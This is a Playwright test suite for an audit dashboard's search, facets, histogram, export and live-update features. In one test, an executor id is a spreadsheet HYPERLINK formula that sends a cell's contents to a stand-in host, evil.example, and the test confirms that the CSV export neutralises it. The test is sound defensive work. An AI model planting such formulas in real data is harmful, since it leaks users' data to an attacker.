import { readFileSync } from "node:fs";
import type { APIRequestContext, Page } from "@playwright/test";
import { parse } from "csv-parse/sync";
import { z } from "zod";
import { makeAuditEntry, auditTotal } from "./support/audit";
import { keys, makeIntent, publish } from "./support/intents";
import { connectAs } from "./support/nats-clients";
import { expect, test } from "./support/test";
import type { StackState } from "./support/stack-state";

test.use({ role: "auditor", viewport: { width: 1760, height: 1000 } });

const run = Date.now().toString(36);
const RULE = `e2e-rule-${run}`;
const EXECUTORS = [0, 1, 2].map((i) => `exec-${run}-${i}`);
const EVENTS = 360; // more than one page of the list (200)
const INTENTS = 12;

interface Seed {
  intentIds: string[];
  /** The one intent whose signature was tampered with. */
  tampered: string;
}

let seeded: Promise<Seed> | null = null;

/**
 * 12 intents (one tampered) and 360 audit events over the last 90 minutes, across three
 * executors, a quarter of them denied by RULE; once per run, waiting for the index.
 */
function seed(stack: StackState, request: APIRequestContext): Promise<Seed> {
  seeded ??= (async () => {
    const nc = await connectAs(stack, "publisher");
    const intents = Array.from({ length: INTENTS }, (_, i) => makeIntent({ key: keys.trusted[0], tamper: i === 0, domain: `audit-${run}` }));
    for (const intent of intents) await publish(nc, `smith.intents.vetted.${intent.capability}`, intent.text);
    const now = Date.now();
    for (let k = 0; k < EVENTS; k++) {
      const intent = intents[k % INTENTS] ?? intents[0];
      if (!intent) throw new Error("no intent");
      const deny = k % 4 === 0;
      const entry = makeAuditEntry({
        intentId: intent.id,
        executor: EXECUTORS[k % 3] ?? "",
        decisions: [
          { rule: RULE, decision: deny ? "deny" : "allow" },
          { rule: "capability-allowlist", decision: "allow" },
        ],
        status: deny ? "denied" : "ok",
        sandbox: k % 5 === 0 ? "demo" : "full",
        tsMs: now - (k + 1) * 15_000,
      });
      await publish(nc, `smith.audit.policy.${intent.id}`, entry);
    }
    await nc.close();
    await expect.poll(() => auditTotal(request, { q: `rule:${RULE}` }), { timeout: 30_000 }).toBe(EVENTS);
    const ids = intents.map((i) => i.id);
    return { intentIds: ids, tampered: ids[0] ?? "" };
  })();
  return seeded;
}

const queryBox = (page: Page) => page.getByRole("combobox", { name: "Audit query" });
const facets = (page: Page) => page.getByRole("complementary", { name: "Facets" });
const urlParam = (page: Page, name: string) => new URL(page.url()).searchParams.get(name);
const dataRows = (page: Page, table: string) => page.getByRole("table", { name: table }).getByRole("row").filter({ has: page.getByRole("cell") });

async function openAudit(page: Page, search = ""): Promise<void> {
  await page.goto(`/audit${search}`);
  await expect(page.getByRole("heading", { name: "Audit", exact: true })).toBeVisible();
  // Interact once hydrated (the indicator is client state).
  await expect(page.getByRole("status", { name: "Live connection: Connected" })).toBeVisible();
}

/** Every listed value of a facet shows the count the index gives for query + that term. */
async function expectFacetMatchesIndex(page: Page, request: APIRequestContext, q: string, field: string, values: readonly string[]) {
  for (const value of values) {
    const expected = await auditTotal(request, { q: `${q} ${field}:${value}` });
    expect(expected).toBeGreaterThan(0);
    await expect(facets(page).getByRole("button", { name: `${field}:${value}, ${expected} events`, exact: true })).toBeVisible();
  }
}

test("a typed query filters the rows, the facets count the whole range as the index does, and the URL keeps the view", async ({ page, stack }) => {
  await seed(stack, page.request);
  await openAudit(page);

  // Completion: field names, then known values, chosen with the keyboard.
  await queryBox(page).fill("ru");
  await expect(page.getByRole("listbox", { name: "Completions" }).getByRole("option", { name: /^rule:/ })).toBeVisible();
  await queryBox(page).press("ArrowDown");
  await expect(page.getByRole("option", { name: /^rule:/ })).toHaveAttribute("aria-selected", "true");
  await queryBox(page).press("Enter");
  await expect(queryBox(page)).toHaveValue("rule:");
  await queryBox(page).press("Escape");
  await expect(page.getByRole("listbox", { name: "Completions" })).toBeHidden();

  const q = `rule:${RULE}`;
  await queryBox(page).fill(q);
  await queryBox(page).press("Enter");
  await expect.poll(() => urlParam(page, "q")).toBe(q);
  await expect(facets(page)).toContainText(`${EVENTS} matching events`);
  expect(await auditTotal(page.request, { q })).toBe(EVENTS);
  await expectFacetMatchesIndex(page, page.request, q, "decision", ["deny", "allow"]);
  await expectFacetMatchesIndex(page, page.request, q, "executor", EXECUTORS);
  await expectFacetMatchesIndex(page, page.request, q, "sandbox", ["full", "demo"]);
  await expectFacetMatchesIndex(page, page.request, q, "status", ["ok", "denied"]);

  // Clicking a facet adds its term: only denied events remain, and they stand out.
  await facets(page).getByRole("button", { name: /^decision:deny, \d+ events$/ }).click();
  const denyQ = `${q} decision:deny`;
  await expect(queryBox(page)).toHaveValue(denyQ);
  await expect.poll(() => urlParam(page, "q")).toBe(denyQ);
  const denied = await auditTotal(page.request, { q: denyQ });
  expect(denied).toBe(EVENTS / 4);
  await expect(facets(page)).toContainText(`${denied} matching events`);
  await expect(page.getByRole("table", { name: "Audit events" })).toHaveAttribute("aria-rowcount", String(denied));
  const rows = dataRows(page, "Audit events");
  await expect(rows.first()).toBeVisible();
  await expect(rows.filter({ hasNotText: "deny" })).toHaveCount(0);
  await expect(rows.first()).toHaveAttribute("title", /Stands out: denied by policy/);

  // The executor facet narrows further; a reload reproduces the view from the URL.
  await facets(page).getByRole("button", { name: new RegExp(`^executor:${EXECUTORS[1]}, \\d+ events$`) }).click();
  const execQ = `${denyQ} executor:${EXECUTORS[1]}`;
  await expect.poll(() => urlParam(page, "q")).toBe(execQ);
  const narrowed = await auditTotal(page.request, { q: execQ });
  await expect(facets(page)).toContainText(`${narrowed} matching events`);
  await page.reload();
  await expect(queryBox(page)).toHaveValue(execQ);
  await expect(facets(page)).toContainText(`${narrowed} matching events`);
  await expect(dataRows(page, "Audit events").filter({ hasNotText: EXECUTORS[1] ?? "" })).toHaveCount(0);
});

test("dragging across the histogram narrows the range, and the reset button widens it again", async ({ page, stack }) => {
  await seed(stack, page.request);
  const q = `rule:${RULE}`;
  await openAudit(page, `?q=${encodeURIComponent(q)}`);
  await expect(facets(page)).toContainText(`${EVENTS} matching events`);
  const bars = page.getByRole("group", { name: "Histogram bars" });
  await expect(bars.getByRole("img").first()).toHaveAccessibleName(/^\d+ events from /);
  const box = await bars.boundingBox();
  if (!box) throw new Error("no histogram");
  const y = box.y + box.height / 2;
  await page.mouse.move(box.x + box.width * 0.25, y);
  await page.mouse.down();
  await page.mouse.move(box.x + box.width * 0.45, y, { steps: 5 });
  await page.mouse.move(box.x + box.width * 0.6, y, { steps: 5 });
  await page.mouse.up();

  await expect.poll(() => urlParam(page, "from")).not.toBeNull();
  const from = urlParam(page, "from") ?? "";
  const to = urlParam(page, "to") ?? "";
  expect(Date.parse(to)).toBeGreaterThan(Date.parse(from));
  const inRange = await auditTotal(page.request, { q, from, to });
  expect(inRange).toBeGreaterThan(0);
  expect(inRange).toBeLessThan(EVENTS);
  await expect(facets(page)).toContainText(`${inRange} matching events`);
  await expect(page.getByRole("table", { name: "Audit events" })).toHaveAttribute("aria-rowcount", String(inRange));
  // The header's way to the integrity view keeps the narrowed range.
  await expect(page.getByRole("link", { name: "Integrity checks" })).toHaveAttribute("href", `/audit/integrity?${new URLSearchParams({ from, to })}`);

  await page.reload();
  await expect(facets(page)).toContainText(`${inRange} matching events`);
  await page.getByRole("button", { name: "Reset range" }).click();
  await expect.poll(() => urlParam(page, "from")).toBeNull();
  await expect(facets(page)).toContainText(`${EVENTS} matching events`);
});

test("a malformed query shows the parser's message under the box, never an error page", async ({ page, stack }) => {
  await seed(stack, page.request);
  await openAudit(page);
  const cases = [
    ["decision:", /decision: needs a value/],
    [`rule:${RULE} "outside allowed`, /unclosed quote/],
    ["colour:red", /unknown field "colour"/],
  ] as const;
  for (const [text, message] of cases) {
    await queryBox(page).fill(text);
    await expect(page.getByRole("alert").filter({ hasText: message })).toBeVisible();
    await expect(queryBox(page)).toHaveAttribute("aria-invalid", "true");
  }
  // The same from a URL: the page renders and says what is wrong.
  await openAudit(page, `?q=${encodeURIComponent("decision:")}`);
  await expect(page.getByRole("alert").filter({ hasText: /decision: needs a value/ })).toBeVisible();
  await expect(page.getByText("Nothing is searched while the query has an error")).toBeVisible();
  // Fixing it searches again.
  await queryBox(page).fill(`rule:${RULE}`);
  await expect(facets(page)).toContainText(`${EVENTS} matching events`);
  await expect(page.getByRole("alert").filter({ hasText: /needs a value/ })).toHaveCount(0);
});

test("grouped by intent: one row per intent, each linking to its chain of custody; a tampered one stands out", async ({ page, stack }) => {
  const { intentIds, tampered } = await seed(stack, page.request);
  await openAudit(page, `?q=${encodeURIComponent(`rule:${RULE}`)}`);
  await page.getByRole("radio", { name: "By intent" }).click();
  await expect.poll(() => urlParam(page, "view")).toBe("intents");
  const rows = dataRows(page, "Audit events by intent");
  await expect(rows).toHaveCount(INTENTS);
  for (const id of intentIds) {
    await expect(rows.getByRole("link", { name: `Intent ${id}` })).toHaveAttribute("href", `/intents/${id}`);
  }
  const bad = rows.filter({ has: page.getByRole("link", { name: `Intent ${tampered}` }) });
  await expect(bad.getByText("invalid signature")).toBeVisible();
  await expect(bad).toHaveAttribute("title", /invalid signature/);

  await page.reload();
  await expect(page.getByRole("radio", { name: "By intent" })).toHaveAttribute("aria-checked", "true");
  await expect(dataRows(page, "Audit events by intent")).toHaveCount(INTENTS);
  await rows.getByRole("link", { name: `Intent ${intentIds[3]}` }).click();
  await expect(page).toHaveURL(new RegExp(`/intents/${intentIds[3]}$`));
});

test("export saves every match of the query (not the page) under the server's file name", async ({ page, stack }) => {
  await seed(stack, page.request);
  const q = `rule:${RULE} sandbox:full`;
  const expected = await auditTotal(page.request, { q });
  expect(expected).toBeGreaterThan(200);
  await openAudit(page, `?q=${encodeURIComponent(q)}`);
  await expect(facets(page)).toContainText(`${expected} matching events`);
  const exportGroup = page.getByRole("group", { name: "Export" });

  const [csv] = await Promise.all([page.waitForEvent("download"), exportGroup.getByRole("button", { name: "Export CSV" }).click()]);
  expect(csv.suggestedFilename()).toMatch(/^pilot-audit-.+\.csv$/);
  const records: unknown = parse(readFileSync(await csv.path(), "utf8"), { columns: true });
  const rows = z.array(z.object({ intentId: z.string(), sandboxMode: z.string(), timestampNs: z.string() })).parse(records);
  expect(rows).toHaveLength(expected);
  expect(rows.every((r) => r.sandboxMode === "full" && /^\d{19}$/.test(r.timestampNs))).toBe(true);
  await expect(exportGroup.getByRole("status")).toHaveText(`Saved ${csv.suggestedFilename()} (${expected} rows)`);

  const [jsonl] = await Promise.all([page.waitForEvent("download"), exportGroup.getByRole("button", { name: "Export JSONL" }).click()]);
  expect(jsonl.suggestedFilename()).toMatch(/^pilot-audit-.+\.jsonl$/);
  const lines = readFileSync(await jsonl.path(), "utf8").split("\n").filter((l) => l !== "");
  expect(lines).toHaveLength(expected);
});

test("an exported CSV opens a formula from the wire as text, not as a formula", async ({ page, stack }) => {
  // An executor id a spreadsheet would run (OWASP CSV injection), under a rule of this test's own.
  const rule = `e2e-formula-${run}`;
  const executor = `=HYPERLINK("http://evil.example/?leak="&A1,"open ${run}")`;
  const intent = makeIntent({ key: keys.trusted[0], domain: `formula-${run}` });
  const nc = await connectAs(stack, "publisher");
  await publish(nc, `smith.intents.vetted.${intent.capability}`, intent.text);
  const entry = makeAuditEntry({ intentId: intent.id, executor, decisions: [{ rule, decision: "deny" }], status: "denied", sandbox: "full", tsMs: Date.now() });
  await publish(nc, `smith.audit.policy.${intent.id}`, entry);
  await nc.close();
  const q = `rule:${rule}`;
  await expect.poll(() => auditTotal(page.request, { q }), { timeout: 30_000 }).toBe(1);
  await openAudit(page, `?q=${encodeURIComponent(q)}`);
  await expect(facets(page)).toContainText("1 matching events");

  const exportGroup = page.getByRole("group", { name: "Export" });
  const [csv] = await Promise.all([page.waitForEvent("download"), exportGroup.getByRole("button", { name: "Export CSV" }).click()]);
  const records: unknown = parse(readFileSync(await csv.path(), "utf8"), { columns: true });
  const [row] = z.array(z.object({ executorId: z.string(), intentId: z.string() })).length(1).parse(records);
  // The leading apostrophe is what makes Excel, LibreOffice and Sheets show the cell as text.
  expect(row?.executorId).toBe(`'${executor}`);
  expect(row?.intentId).toBe(intent.id);
});

test("a new audit event enters at the top, live, and the counts follow", async ({ page, stack }) => {
  const { intentIds } = await seed(stack, page.request);
  const q = `rule:${RULE}`;
  await openAudit(page, `?q=${encodeURIComponent(q)}`);
  await expect(facets(page)).toContainText(/\d+ matching events/);
  const before = await auditTotal(page.request, { q });
  const executor = `exec-${run}-live`;
  const nc = await connectAs(stack, "publisher");
  const intentId = intentIds[5] ?? "";
  await publish(
    nc,
    `smith.audit.policy.${intentId}`,
    makeAuditEntry({ intentId, executor, decisions: [{ rule: RULE, decision: "deny" }], status: "denied", sandbox: "full", tsMs: Date.now() }),
  );
  await nc.close();
  await expect(dataRows(page, "Audit events").first()).toContainText(executor);
  await expect(facets(page)).toContainText(`${before + 1} matching events`);
});
